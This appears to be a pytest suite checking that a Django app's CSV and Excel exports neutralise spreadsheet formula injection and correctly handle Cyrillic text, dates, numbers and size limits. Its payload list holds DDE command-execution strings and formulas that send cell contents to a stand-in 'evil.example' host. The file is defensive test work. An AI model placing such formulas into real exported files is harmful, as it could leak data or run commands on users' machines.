"""Tables that leave: words stay words in every program (``reliability.md`` G12)."""

import csv
from datetime import UTC, date, datetime, time
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from core import books, exports
from core.exports import csv_response, xlsx_response
from core.languages import clean_text

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\ufeff\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "'=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a|=1+1",
    'a";=1+1',
    "a;\ufeff=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "%0A=1+1",
    "==1",
    "=\n1",
]
STARTERS = set("=+-@\t\r＝＋－＠")
HARMLESS = ["Өмүрбек", "№ 45", "5-класс", "a - b", "a = b", "", "'", "12.10.2026-ж.", "а; б"]


def csv_rows(response, delimiter=";"):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))


def sheet_of(response):
    return load_workbook(BytesIO(response.content)).active


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_cell_of_csv_begins_a_formula_however_it_is_split(payload, delimiter):
    response = csv_response("a", ["Аты", payload], [["б", payload], [payload, "в"]])

    for row in csv_rows(response, delimiter):
        for cell in row:
            bare = cell.strip("\ufeff\u200b \u00a0\"'")
            assert cell[:1] not in STARTERS
            assert cell.startswith("'") or "'" in cell or bare[:1] not in STARTERS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_book_is_a_formula(payload):
    sheet = sheet_of(xlsx_response("a", ["Аты", payload], [["б", payload]], title=payload))

    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert sheet["B2"].value.strip() == clean_text(payload).strip()


def test_a_payload_in_a_book_is_the_same_words():
    sheet = sheet_of(xlsx_response("a", ["=A1"], [["=1+1"], ["-2"], ["#N/A"]]))

    assert [row[0].value for row in sheet.iter_rows()] == ["=A1", "=1+1", "-2", "#N/A"]
    # Also for somebody who goes into the cell and leaves it again.
    assert all(row[0].quotePrefix for row in sheet.iter_rows())


def test_ordinary_words_need_no_mark():
    sheet = sheet_of(xlsx_response("a", ["Аты"], [["№ 3/5"], [7]]))

    assert not any(cell.quotePrefix for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("words", HARMLESS)
def test_harmless_words_are_left_as_they_are(words):
    assert csv_rows(csv_response("a", ["x"], [[words, "y"]]))[1] == [words, "y"]


def test_numbers_dates_and_answers_are_what_they_are():
    row = [
        -5,
        2.5,
        Decimal("3.10"),
        date(2026, 10, 12),
        datetime(2026, 10, 12, 20, 30, tzinfo=UTC),
        time(14, 5),
        True,
        None,
    ]

    cells = next(sheet_of(xlsx_response("a", list("abcdefgh"), [row])).iter_rows(min_row=2))
    texts = csv_rows(csv_response("a", ["x"], [row]))[1]

    assert [cell.data_type for cell in cells[:6]] == ["n", "n", "n", "d", "d", "d"]
    assert cells[0].value == -5
    assert cells[3].value.isoformat() == "2026-10-12T00:00:00"
    assert cells[4].value.isoformat() == "2026-10-13T02:30:00"
    assert [cell.number_format for cell in cells[3:6]] == [
        "dd.mm.yyyy",
        "dd.mm.yyyy hh:mm",
        "hh:mm",
    ]
    assert texts[:6] == ["-5", "2.5", "3.10", "2026-10-12", "2026-10-13 02:30:00", "14:05:00"]
    assert texts[7] == ""


def test_csv_opens_in_excel_with_cyrillic_letters():
    response = csv_response("Жыйындар", ["Аты"], [["Өмүрбек"]])

    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%D0%96")
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_book_has_a_bold_frozen_head_and_readable_columns():
    rows = [["кыска", "узун " * 50], ["Асан", "эки\nсап"]]

    response = xlsx_response("Жыйындар", ["А", "Б"], rows, title="Токтомдор: [2026/2027]?")

    sheet = sheet_of(response)
    assert sheet.title == "Токтомдор   2026 2027"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.column_dimensions["A"].width == books.NARROWEST
    assert sheet.column_dimensions["B"].width == books.WIDEST
    assert sheet["B3"].alignment.wrap_text
    assert response["Content-Disposition"].endswith(".xlsx")


def test_the_name_of_a_sheet_is_cut_between_words():
    said = "Лист контроля исполнения решений"

    assert sheet_of(xlsx_response("a", ["x"], [], title=said)).title == said[:24]
    assert sheet_of(xlsx_response("a", ["x"], [], title="ы" * 40)).title == "ы" * 31


def test_what_no_book_can_hold_is_cleaned_or_cut():
    sheet = sheet_of(xlsx_response("a", ["x"], [["а\x00\x0bб\ud800"], ["ы" * 40_000]]))

    assert sheet["A2"].value == "а\nб"
    assert len(sheet["A3"].value) == books.LONGEST_CELL
    assert sheet["A3"].value.endswith("…")


@pytest.mark.parametrize("export", [csv_response, xlsx_response])
def test_too_long_a_table_is_refused_not_cut(export, monkeypatch):
    monkeypatch.setattr(exports, "MOST_ROWS", 3)

    assert export("a", ["x"], [["y"]] * 3).content
    with pytest.raises(ValidationError, match="3"):
        export("a", ["x"], (["y"] for _ in range(4)))


@pytest.mark.parametrize("export", [csv_response, xlsx_response])
def test_an_empty_table_has_its_head(export):
    assert export("a", ["Аты"], []).content
